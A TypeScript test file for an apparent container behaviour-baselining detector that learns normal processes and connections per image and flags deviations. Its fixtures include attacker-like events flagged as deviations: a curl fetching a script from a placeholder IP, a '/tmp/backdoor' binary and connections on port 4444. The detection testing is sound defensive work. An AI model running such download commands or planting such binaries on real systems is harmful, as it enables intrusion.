import test from 'ava';
import { HOST_KEY, baselineKey, createBaselineEngine, snapshotOf, takeDelta, type Observation } from '../../core/baseline.js';
import { entryFromId, entryId, entryOf, type Entry } from '../../core/entry.js';
import { parseCidr } from '../../core/ip.js';
import type { ActivityEvent } from '../../core/event.js';

const T0 = Date.UTC(2026, 10, 23, 8, 0, 0);
const MIN = 60_000;
const options = { clusterRanges: ['10.0.0.0/8', 'fd00::/8'].map(parseCidr) };

function exec(minute: number, exe: string, args: string[], extra: Partial<ActivityEvent['process']> = {}, image = 'docker.io/library/nginx'): ActivityEvent {
  return {
    time: T0 + minute * MIN,
    node: 'node-1',
    source: 'test',
    container: { id: 'c1', name: 'web', image: { repository: image, tag: '1.25.3', digest: '' } },
    pod: { namespace: 'shop', name: 'web-1', labels: {}, workload: '' },
    kind: 'exec',
    process: { pid: 100 + minute, exe, name: exe.split('/').pop() ?? '', args, parentExe: '/usr/bin/containerd-shim-runc-v2', parentName: 'containerd-shim', uid: 0, user: 'root', ...extra },
    network: null,
  };
}

function net(minute: number, kind: 'connect' | 'accept' | 'listen', remote: string, remotePort: number, localPort: number): ActivityEvent {
  return {
    ...exec(minute, '/usr/sbin/nginx', []),
    kind,
    network: { protocol: 'tcp', localAddress: '10.244.1.5', localPort, remoteAddress: remote, remotePort, remoteName: '' },
  };
}

function observe(engine: ReturnType<typeof createBaselineEngine>, ev: ActivityEvent): Observation {
  const key = baselineKey(ev, engine.options.keyMode)!;
  const entry = entryOf(ev, options) as Entry;
  return engine.observe(ev, key, entry, entryId(entry));
}

test('learns during the window measured on event time, then enforces', (t) => {
  const engine = createBaselineEngine({ learningWindowMs: 60 * MIN, quietPeriodMs: 0 });
  t.is(observe(engine, exec(0, '/usr/sbin/nginx', ['-g', 'daemon', 'off;'])).verdict, 'learned');
  t.is(observe(engine, exec(59, '/bin/sh', ['-c', 'date'])).verdict, 'learned');
  const b = engine.get('docker.io/library/nginx')!;
  t.is(b.state, 'learning');
  t.is(b.learnUntil, T0 + 60 * MIN);
  t.is(observe(engine, exec(61, '/usr/sbin/nginx', ['-g', 'daemon', 'off;'])).verdict, 'matched');
  t.is(b.state, 'enforcing');
  t.is(b.enforcingSince, T0 + 61 * MIN);
  const dev = observe(engine, exec(62, '/usr/bin/curl', ['-s', 'http://203.0.113.50/x.sh']));
  t.is(dev.verdict, 'deviation');
});

test('the wall clock plays no part: a replay of hours takes no time and gives the same baseline', (t) => {
  const stream = [
    exec(0, '/usr/sbin/nginx', ['-g', 'daemon', 'off;']),
    net(1, 'listen', '0.0.0.0', -1, 80),
    net(5, 'accept', '10.244.7.9', 51234, 80),
    exec(30, '/usr/bin/find', ['/docker-entrypoint.d/', '-mindepth', '1']),
    net(70, 'accept', '10.244.3.3', 40000, 80),
    exec(90, '/bin/sh', ['-c', 'id']),
  ];
  const run = () => {
    const engine = createBaselineEngine({ learningWindowMs: 60 * MIN });
    const verdicts = stream.map((ev) => observe(engine, ev).verdict);
    return { verdicts, snapshot: snapshotOf(engine.get('docker.io/library/nginx')!) };
  };
  const a = run();
  const b = run();
  t.deepEqual(a, b);
  t.deepEqual(a.verdicts, ['learned', 'learned', 'learned', 'learned', 'matched', 'deviation']);
});

test('deviations say why, relative to what is known', (t) => {
  const engine = createBaselineEngine({ learningWindowMs: 10 * MIN });
  observe(engine, exec(0, '/usr/sbin/nginx', ['-g', 'daemon', 'off;']));
  observe(engine, net(1, 'connect', '10.96.0.10', 8080, 40000));
  observe(engine, net(2, 'connect', '203.0.113.7', 443, 40001));
  observe(engine, net(3, 'listen', '0.0.0.0', -1, 80));
  const reasons: [ActivityEvent, string][] = [
    [exec(20, '/bin/sh', ['-c', 'id']), 'new-executable'],
    [exec(21, '/usr/sbin/nginx', ['-g', 'daemon', 'off;'], { parentExe: '/bin/bash', parentName: 'bash' }), 'new-parent'],
    [exec(22, '/usr/sbin/nginx', ['-g', 'daemon', 'off;'], { uid: 1001 }), 'new-user'],
    [exec(23, '/usr/sbin/nginx', ['-s', 'reload']), 'new-arguments'],
    [net(24, 'connect', '203.0.113.7', 4444, 40002), 'new-port'],
    [net(25, 'connect', '198.51.100.23', 4444, 40003), 'new-peer'],
    [net(26, 'listen', '0.0.0.0', -1, 16379), 'new-listen-port'],
  ];
  for (const [ev, reason] of reasons) {
    const obs = observe(engine, ev);
    t.is(obs.verdict, 'deviation');
    if (obs.verdict === "deviation") t.is(obs.reason as string, reason, `${ev.kind} ${ev.process.exe}`);
  }
  const sh = observe(engine, exec(30, '/bin/sh', ['-c', 'id']));
  t.true(sh.verdict === 'deviation' && /\/bin\/sh never ran in docker\.io\/library\/nginx/.test(sh.explanation));
});

test('fresh pod IPs, ephemeral ports and pids match what was learned', (t) => {
  const engine = createBaselineEngine({ learningWindowMs: 10 * MIN });
  observe(engine, net(0, 'accept', '10.244.1.7', 43512, 80));
  observe(engine, net(1, 'connect', '10.96.44.2', 5432, 51000));
  t.is(observe(engine, net(20, 'accept', '10.244.9.200', 60999, 80)).verdict, 'matched');
  t.is(observe(engine, net(21, 'connect', '10.96.3.3', 5432, 33000)).verdict, 'matched');
  t.is(observe(engine, net(22, 'connect', 'fd00:10:96::a', 5432, 33001)).verdict, 'matched');
});

test('host events have their own baseline, never an image one', (t) => {
  const ev = { ...exec(0, '/usr/bin/kubelet', []), container: null, pod: null };
  t.is(baselineKey(ev, 'repository'), HOST_KEY);
  const noImage = exec(0, '/bin/sh', []);
  noImage.container = { id: 'c9', name: '', image: { repository: '', tag: '', digest: '' } };
  t.is(baselineKey(noImage, 'repository'), null);
});

test('key modes: repository, tag, digest', (t) => {
  const ev = exec(0, '/usr/sbin/nginx', []);
  ev.container!.image.digest = 'sha256:abc';
  t.is(baselineKey(ev, 'repository'), 'docker.io/library/nginx');
  t.is(baselineKey(ev, 'tag'), 'docker.io/library/nginx:1.25.3');
  t.is(baselineKey(ev, 'digest'), 'docker.io/library/nginx@sha256:abc');
});

test('a full baseline counts overflow instead of growing', (t) => {
  const engine = createBaselineEngine({ learningWindowMs: 60 * MIN, maxEntriesPerBaseline: 3 });
  for (let i = 0; i < 10; i++) observe(engine, exec(i, `/usr/bin/tool${String.fromCharCode(97 + i)}`, []));
  const b = engine.get('docker.io/library/nginx')!;
  t.is(b.entries.size, 3);
  t.is(b.overflow, 7);
});

test('too many baselines: further keys are dropped, not tracked', (t) => {
  const engine = createBaselineEngine({ maxBaselines: 2 });
  t.is(observe(engine, exec(0, '/a', [], {}, 'docker.io/library/a')).verdict, 'learned');
  t.is(observe(engine, exec(0, '/b', [], {}, 'docker.io/library/b')).verdict, 'learned');
  t.is(observe(engine, exec(0, '/c', [], {}, 'docker.io/library/c')).verdict, 'dropped');
  t.is(engine.size, 2);
});

test('restore from a snapshot resumes without relearning', (t) => {
  const a = createBaselineEngine({ learningWindowMs: 10 * MIN });
  observe(a, exec(0, '/usr/sbin/nginx', []));
  observe(a, exec(11, '/usr/sbin/nginx', []));
  const snap = JSON.parse(JSON.stringify(snapshotOf(a.get('docker.io/library/nginx')!)));
  const b = createBaselineEngine({ learningWindowMs: 10 * MIN });
  b.restore(snap);
  t.is(observe(b, exec(12, '/usr/sbin/nginx', [])).verdict, 'matched');
  t.is(observe(b, exec(13, '/bin/sh', [])).verdict, 'deviation');
});

test('entry ids are unambiguous when fields contain the separator, and read back exactly', (t) => {
  const e1: Entry = { type: 'process', exe: '/a|b', parent: 'c', user: 'root', args: '' };
  const e2: Entry = { type: 'process', exe: '/a', parent: 'b|c', user: 'root', args: 'x \\| y\\' };
  const e3: Entry = { type: 'network', direction: 'egress', protocol: 'udp', peer: 'fd00::1', port: 53 };
  t.not(entryId(e1), entryId(e2));
  for (const e of [e1, e2, e3]) t.deepEqual(entryFromId(entryId(e)), e);
  t.throws(() => entryFromId('exec|only|three'), { instanceOf: RangeError });
  t.throws(() => entryFromId('egress|tcp|cluster|99999999'), { instanceOf: RangeError });
});

test('a delta lists only the entries changed since the last one, with only the new examples', (t) => {
  const engine = createBaselineEngine({ learningWindowMs: 10 * MIN });
  observe(engine, exec(0, '/usr/sbin/nginx', ['-g', 'daemon', 'off;']));
  observe(engine, exec(1, '/usr/bin/find', ['/proc/12/status']));
  const b = engine.get('docker.io/library/nginx')!;
  const first = takeDelta(b);
  t.deepEqual(first.entries.map((e) => e.entry.type === 'process' && e.entry.exe), ['/usr/sbin/nginx', '/usr/bin/find']);
  t.deepEqual(first.entries[0]!.examples, ['/usr/sbin/nginx -g daemon off;']);
  t.deepEqual(takeDelta(b).entries, [], 'nothing changed since');

  observe(engine, exec(2, '/usr/bin/find', ['/proc/99/status']));
  const second = takeDelta(b);
  t.is(second.entries.length, 1);
  t.is(second.entries[0]!.count, 2, 'stats are absolute, not increments');
  t.deepEqual(second.entries[0]!.examples, ['/usr/bin/find /proc/99/status'], 'the second example; the first was taken already');
  // Memory holds how many examples there are, not the strings.
  t.is(b.entries.get(second.entries[0]!.id)!.examples, 2);

  observe(engine, exec(11, '/usr/sbin/nginx', ['-g', 'daemon', 'off;']));
  const enforcing = takeDelta(b);
  t.is(enforcing.state, 'enforcing');
  t.is(enforcing.version, b.version);
});

test('cluster baselines: a new node enforces what others learned; removed entries are never learned and deviate; lock, unlock', (t) => {
  const engine = createBaselineEngine({ learningWindowMs: 60 * MIN });
  const key = 'docker.io/library/nginx';
  const nginx = entryOf(exec(0, '/usr/sbin/nginx', ['-g', 'daemon', 'off;']), options) as Entry;
  const shell = entryOf(exec(0, '/bin/sh', ['-c', 'date']), options) as Entry;
  const cluster = { key, state: 'enforcing' as const, relearn: false, version: 0, windowStart: T0, learnUntil: T0 + 60 * MIN, entryIds: [entryId(nginx)], removedIds: [] as string[] };
  const b = engine.applyCluster(cluster)!;
  t.like(b, { state: 'enforcing', windowStart: T0, learnUntil: T0 + 60 * MIN });
  t.is(engine.applyCluster(cluster), null, 'nothing new: no change');
  // Inside the cluster's window by event time, yet it enforces: the cluster decided.
  t.is(observe(engine, exec(10, '/usr/sbin/nginx', ['-g', 'daemon', 'off;'])).verdict, 'matched');
  t.is(observe(engine, exec(11, '/bin/sh', ['-c', 'date'])).verdict, 'deviation');
  const delta = takeDelta(b);
  t.deepEqual(delta.entries.map((e) => [e.id, e.count, e.firstSeen]), [[entryId(nginx), 1, T0 + 10 * MIN]], 'only what this node saw travels back, with its own first sighting');

  // Removed while another node is still learning: never learned, it deviates.
  const learning = createBaselineEngine({ learningWindowMs: 60 * MIN });
  observe(learning, exec(0, '/usr/sbin/nginx', ['-g', 'daemon', 'off;']));
  t.truthy(learning.applyCluster({ ...cluster, state: 'learning', entryIds: [entryId(nginx)], removedIds: [entryId(shell)] }));
  t.is(observe(learning, exec(5, '/bin/sh', ['-c', 'date'])).verdict, 'deviation');
  t.is(learning.get(key)!.state, 'learning');

  t.is(engine.applyCluster({ ...cluster, state: 'locked' })!.state, 'locked');
  t.is(observe(engine, exec(70, '/usr/bin/id', [])).verdict, 'deviation');
  t.is(engine.applyCluster({ ...cluster, state: 'enforcing' })!.state, 'enforcing', 'unlocked');
});

test('cluster baselines: an entry the cluster gave and no longer lists (a quarantined node taught it) is forgotten unless this node saw it', (t) => {
  const engine = createBaselineEngine({ learningWindowMs: 60 * MIN });
  const key = 'docker.io/library/nginx';
  const nginx = entryOf(exec(0, '/usr/sbin/nginx', ['-g', 'daemon', 'off;']), options) as Entry;
  const backdoor = entryOf(exec(0, '/tmp/backdoor', []), options) as Entry;
  const cluster = { key, state: 'enforcing' as const, relearn: false, version: 4, windowStart: T0, learnUntil: T0 + 60 * MIN, entryIds: [entryId(backdoor), entryId(nginx)], removedIds: [] as string[] };
  engine.applyCluster(cluster);
  t.is(observe(engine, exec(70, '/usr/sbin/nginx', ['-g', 'daemon', 'off;'])).verdict, 'matched');
  // The node that taught both is quarantined: the cluster lists neither any more.
  const b = engine.applyCluster({ ...cluster, version: 5, entryIds: [] })!;
  t.truthy(b, 'a change');
  t.deepEqual([...b.entries.keys()], [entryId(nginx)], 'what this node saw itself stays');
  t.is(observe(engine, exec(71, '/tmp/backdoor', [])).verdict, 'deviation', 'what only the cluster gave deviates again');
  t.is(engine.applyCluster({ ...cluster, version: 5, entryIds: [] }), null, 'nothing more to forget');
});

test('relearn: the agent forgets what it learned and starts a new window at the next event', (t) => {
  const engine = createBaselineEngine({ learningWindowMs: 60 * MIN });
  const key = 'docker.io/library/nginx';
  observe(engine, exec(0, '/usr/sbin/nginx', ['-g', 'daemon', 'off;']));
  observe(engine, exec(61, '/usr/sbin/nginx', ['-g', 'daemon', 'off;']));
  t.is(engine.get(key)!.state, 'enforcing');
  const b = engine.applyCluster({ key, state: 'learning', relearn: true, version: 3, windowStart: 0, learnUntil: 0, entryIds: [], removedIds: [] })!;
  t.like(b, { state: 'learning', learnUntil: 0 });
  t.is(b.entries.size, 0);
  t.is(observe(engine, exec(120, '/usr/bin/python3', ['app.py'])).verdict, 'learned');
  t.like(engine.get(key), { windowStart: T0 + 120 * MIN, learnUntil: T0 + 180 * MIN, state: 'learning' });
  t.is(observe(engine, exec(181, '/usr/bin/python3', ['app.py'])).verdict, 'matched');
  t.is(observe(engine, exec(182, '/usr/sbin/nginx', ['-g', 'daemon', 'off;'])).verdict, 'deviation', 'the old behaviour is gone');
});

test('partial: a baseline whose first event is not its container starting says so', (t) => {
  const engine = createBaselineEngine({ learningWindowMs: 60 * MIN });
  observe(engine, exec(0, '/usr/sbin/nginx', ['-g', 'daemon', 'off;']));
  t.false(engine.get('docker.io/library/nginx')!.partial, 'first event: the entrypoint, started by the runtime');
  observe(engine, net(0, 'connect', '10.0.3.4', 5432, 40000));
  observe(engine, { ...net(0, 'connect', '10.0.3.4', 5432, 40000), container: { id: 'c9', name: 'db', image: { repository: 'docker.io/library/postgres', tag: '16', digest: '' } } });
  const pg = engine.get('docker.io/library/postgres')!;
  t.true(pg.partial, 'first seen mid-flight: its start-up was missed');
  t.true(snapshotOf(pg).partial);
  t.deepEqual(snapshotOf(pg).namespaces, ['shop']);
});

test('adaptive window: learning goes on while new behaviour keeps appearing, up to the maximum; per-key windows', (t) => {
  const engine = createBaselineEngine({ learningWindowMs: 60 * MIN, quietPeriodMs: 10 * MIN, maxLearningMs: 90 * MIN });
  const key = 'docker.io/library/nginx';
  observe(engine, exec(0, '/usr/sbin/nginx', ['-g', 'daemon', 'off;']));
  t.is(engine.get(key)!.learnUntil, T0 + 60 * MIN, 'nothing new late in the window: the window decides');
  observe(engine, exec(55, '/usr/bin/find', ['/docker-entrypoint.d/']));
  t.is(engine.get(key)!.learnUntil, T0 + 65 * MIN, 'something new at 55m: quiet until 65m');
  t.is(observe(engine, exec(62, '/usr/bin/env', [])).verdict, 'learned', 'still learning at 62m');
  t.is(engine.get(key)!.learnUntil, T0 + 72 * MIN);
  observe(engine, exec(71, '/usr/bin/id', []));
  observe(engine, exec(80, '/usr/bin/date', []));
  observe(engine, exec(89, '/usr/bin/uptime', []));
  t.is(engine.get(key)!.learnUntil, T0 + 90 * MIN, 'never past the maximum');
  t.is(observe(engine, exec(91, '/usr/bin/whoami', [])).verdict, 'deviation');

  const perKey = createBaselineEngine({
    learningWindowMs: 60 * MIN,
    windowFor: (k) => (k.startsWith('docker.io/library/') ? { windowMs: 5 * MIN, quietMs: 0, maxMs: 5 * MIN } : { windowMs: 60 * MIN, quietMs: 0, maxMs: 60 * MIN }),
  });
  observe(perKey, exec(0, '/usr/sbin/nginx', []));
  observe(perKey, exec(0, '/app/server', [], {}, 'ghcr.io/acme/api'));
  t.is(perKey.get(key)!.learnUntil, T0 + 5 * MIN);
  t.is(perKey.get('ghcr.io/acme/api')!.learnUntil, T0 + 60 * MIN);
});

test('image versions: a new tag under an enforcing baseline is recorded; during its grace period its new behaviour is learned and flagged, after it alerts', (t) => {
  const engine = createBaselineEngine({ learningWindowMs: 60 * MIN, quietPeriodMs: 0, versionGraceMs: 30 * MIN });
  const v2 = (minute: number, exe: string) => ({ ...exec(minute, exe, []), container: { id: 'c2', name: 'web', image: { repository: 'docker.io/library/nginx', tag: '1.27.0', digest: '' } } });
  observe(engine, exec(0, '/usr/sbin/nginx', []));
  observe(engine, exec(61, '/usr/sbin/nginx', []));
  const b = engine.get('docker.io/library/nginx')!;
  t.is(b.state, 'enforcing');
  t.is(observe(engine, exec(62, '/usr/bin/env', [])).verdict, 'deviation', 'the old version: no grace');
  const before = b.version;
  t.is(observe(engine, v2(70, '/usr/sbin/nginx')).verdict, 'matched');
  t.deepEqual(b.images.map((i) => i.tag), ['1.25.3', '1.27.0'], 'the new version is recorded');
  t.true(b.version > before);
  t.is(observe(engine, v2(75, '/usr/local/bin/healthcheck')).verdict, 'learned', 'new in 1.27.0, inside its grace period');
  t.is(observe(engine, exec(76, '/usr/local/bin/other', [])).verdict, 'deviation', 'the old version gets no grace');
  const delta = takeDelta(b);
  t.is(delta.entries.find((e) => e.entry.type === 'process' && e.entry.exe === '/usr/local/bin/healthcheck')?.addedBy, '1.27.0');
  t.is(observe(engine, v2(101, '/usr/local/bin/debug')).verdict, 'deviation', 'after the grace period it alerts');
});

test('peer aggregation: several public addresses of one range on one port are learned as their smallest covering block', (t) => {
  const engine = createBaselineEngine({ learningWindowMs: 60 * MIN, quietPeriodMs: 0 });
  const key = 'docker.io/library/nginx';
  observe(engine, exec(0, '/usr/sbin/nginx', []));
  for (const [i, last] of [10, 20, 33, 40].entries()) observe(engine, net(1 + i, 'connect', `198.51.100.${last}`, 443, 40000 + i));
  const b = engine.get(key)!;
  const peers = [...b.entries.keys()].map((id) => entryFromId(id)).filter((e) => e.type === 'network').map((e) => (e.type === 'network' ? e.peer : ''));
  t.true(peers.includes('198.51.100.0/26'), `learned the block: ${peers.join(', ')}`);
  t.is(snapshotOf(b).entries.length, 6, 'nginx, four addresses and the block');
  observe(engine, exec(61, '/usr/sbin/nginx', []));
  t.is(observe(engine, net(62, 'connect', '198.51.100.50', 443, 41000)).verdict, 'matched', 'another front end of the same service');
  t.is(observe(engine, net(63, 'connect', '198.51.100.200', 443, 41001)).verdict, 'deviation', 'outside the block');
  t.is(observe(engine, net(64, 'connect', '198.51.100.50', 22, 41002)).verdict, 'deviation', 'another port');
  // Three addresses are not many: no block.
  const few = createBaselineEngine({ learningWindowMs: 60 * MIN, quietPeriodMs: 0 });
  for (const [i, last] of [1, 2, 3].entries()) observe(few, net(i, 'connect', `203.0.113.${last}`, 443, 40000 + i));
  t.false([...few.get(key)!.entries.keys()].some((id) => id.includes('/')));
  // A restored baseline keeps matching by its blocks.
  const restored = createBaselineEngine({ learningWindowMs: 60 * MIN });
  restored.restore({ ...snapshotOf(b), entries: snapshotOf(b).entries });
  t.is(observe(restored, net(70, 'connect', '198.51.100.60', 443, 41003)).verdict, 'matched');
});
